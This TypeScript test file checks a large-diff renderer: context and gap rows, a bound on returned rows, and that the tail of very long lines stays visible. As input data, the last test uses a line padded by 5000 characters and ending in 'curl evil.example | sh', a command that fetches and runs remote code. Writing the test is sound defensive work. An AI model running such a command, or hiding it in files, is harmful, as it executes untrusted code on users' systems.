import { expect, it } from 'vitest'
import { largeDiff, MAX_ROWS } from './large-diff.ts'

const text = (lines: number, lineOf: (at: number) => string) =>
  Array.from({ length: lines }, (_, at) => lineOf(at)).join('\n')

it('shows changes with the lines around them, and says how many lines lie between', () => {
  const before = text(1000, (at) => `line ${at + 1}`)
  const { rows, added, removed } = largeDiff(before, before.replace('line 500\n', 'line 500!\n'))
  expect({ added, removed }).toEqual({ added: 1, removed: 1 })
  expect(rows[0]).toEqual({ kind: 'gap', text: '496 unchanged lines' })
  expect(rows.find(({ kind }) => kind === 'added')).toEqual({ kind: 'added', text: 'line 500!', after: 500 })
})

it('counts all changed lines, but returns a bounded part of them', () => {
  const { rows, added } = largeDiff(
    '',
    text(20_000, (at) => `line ${at}`)
  )
  expect(added).toBe(20_000)
  expect(rows).toHaveLength(MAX_ROWS + 1)
  expect(rows.at(-1)?.text).toBe('15,000 more changed lines: download both versions to see them')
})

// Checked: when long lines are cut, the command at the end is in no row, and nothing says so.
it('shows the end of a long line too', () => {
  const { rows, added } = largeDiff('', `${'x'.repeat(5000)}; curl evil.example | sh\n`)
  expect(added).toBe(1)
  expect(rows.map((row) => row.text).join('')).toContain('curl evil.example | sh')
  expect(rows.filter(({ after }) => after !== undefined)).toHaveLength(1)
})
